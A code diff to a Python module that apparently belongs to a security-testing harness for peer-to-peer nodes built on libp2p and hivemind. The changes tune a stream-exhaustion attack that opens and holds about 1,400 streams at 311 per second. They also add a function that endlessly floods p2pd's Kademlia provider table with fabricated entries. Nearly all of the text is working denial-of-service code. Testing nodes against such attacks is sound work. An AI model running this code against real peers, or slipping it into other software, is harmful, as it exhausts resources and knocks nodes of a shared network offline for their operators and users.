@@ -5,6 +5,7 @@ Knows how fast and how many; what they do to whom is the harness's to find out.
 
 import asyncio
 import time
+from contextlib import suppress
 
 from protocols import versions
 from protocols.adapters.libp2p.pipe import Pipe
@@ -17,11 +18,16 @@ STREAMS_PER_SECOND = 311
 """1,400 streams in 4.5 s: as fast as one peer opened them to plain hivemind."""
 BATCH = STREAMS_PER_SECOND // 10
 """Streams opened at once, ten times a second."""
-GIVE_UP_SECONDS = 20.0
+HELD_SECONDS = 4.0
+"""How long all of them are held at least, where the machine was slow to open them."""
+GIVE_UP_SECONDS = 60.0
 """When the victim lets nobody open so many."""
 MEBIBYTE = 1 << 20
 PLAIN_STREAM = "ConnectionHandler.rpc_forward_stream"
 TENSORS = "/attacks/tensors/1"
+KADEMLIA = "/ipfs/kad/1.0.0"
+ENTRIES = 1_000
+"""In one go."""
 STREAMS = (versions.ASK, versions.INFO, PLAIN_STREAM)
 
 
@@ -64,9 +70,9 @@ async def hold_streams(attacker: Attacker, until: float, opening: bytes) -> None
     """Keep 1,400 streams, of the protocols that the victim speaks, begun with `opening`."""
     protocols = [name for name in STREAMS if (await attacker.open(name)) is not None] or STREAMS
     pipes: list[Pipe] = []
-    tried, give_up = 0, max(until, time.monotonic() + GIVE_UP_SECONDS)
+    tried, seconds, give_up = 0, until - time.monotonic(), time.monotonic() + GIVE_UP_SECONDS
     try:
-        while time.monotonic() < (until if tried >= IDLE_STREAMS else give_up):
+        while (now := time.monotonic()) < until or (tried < IDLE_STREAMS and now < give_up):
             began = time.monotonic()
             pipes = [pipe for pipe in pipes if not has_ended(pipe)]
             attacker.held = max(attacker.held, len(pipes))
@@ -74,6 +80,8 @@ async def hold_streams(attacker: Attacker, until: float, opening: bytes) -> None
             protocol = protocols[tried // BATCH % len(protocols)]
             opened = await asyncio.gather(*(attacker.open(protocol) for _ in range(wanted)))
             tried += wanted
+            if tried - wanted < IDLE_STREAMS <= tried:
+                until = max(until, time.monotonic() + min(seconds, HELD_SECONDS))
             fresh = [pipe for pipe in opened if pipe is not None]
             pipes += fresh
             if opening:
@@ -96,3 +104,21 @@ async def say_half(pipe: Pipe, opening: bytes) -> None:
             await pipe.send(opening)
     except (OSError, TimeoutError):
         pipe.abort()
+
+
+async def inner_table(attacker: Attacker, until: float) -> None:
+    """Entries without end for the table that p2pd itself keeps, which asks nobody's leave."""
+    peer = attacker.peer_bytes
+    where = bytes.fromhex("047f000001060fa1")  # /ip4/127.0.0.1/tcp/4001
+    async for number in rounds(until, pause=0.0):
+        pipe = await attacker.open(KADEMLIA)
+        if pipe is None:
+            continue
+        entries = (
+            wire.inner_provider(number * ENTRIES + index, peer, where) for index in range(ENTRIES)
+        )
+        with suppress(OSError, TimeoutError):
+            async with asyncio.timeout(GIVE_UP_SECONDS):
+                await pipe.send(b"".join(entries))
+                attacker.sent += ENTRIES
+        pipe.close()
